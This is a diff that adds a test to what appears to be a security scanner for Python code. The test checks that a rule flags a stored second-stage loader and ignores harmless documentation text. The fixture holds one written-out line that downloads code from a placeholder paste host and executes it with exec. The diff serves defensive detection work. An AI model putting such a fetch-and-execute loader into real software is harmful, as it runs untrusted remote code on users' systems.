@@ -79,3 +79,13 @@ def test_unparseable_files_get_text_checks() -> None:
     assert findings[0].severity is Severity.CRITICAL
     assert "does not parse" in findings[0].message
     assert _ids("print 'hello'\n") == set()
+
+
+def test_loader_code_kept_in_a_string() -> None:
+    stage2 = "from urllib.request import urlopen;exec(urlopen('https://paste.invalid/raw').read())"
+    source = (
+        f"import tempfile\nf = tempfile.NamedTemporaryFile(delete=False)\nf.write(b'')\nCODE = {stage2!r}\n"
+    )
+    assert "PV-OBF-010" in _ids(source)
+    doc = "EXAMPLE = 'Use exec(compile(source, path, \"exec\")) to run a file.'\n"
+    assert "PV-OBF-010" not in _ids(doc)
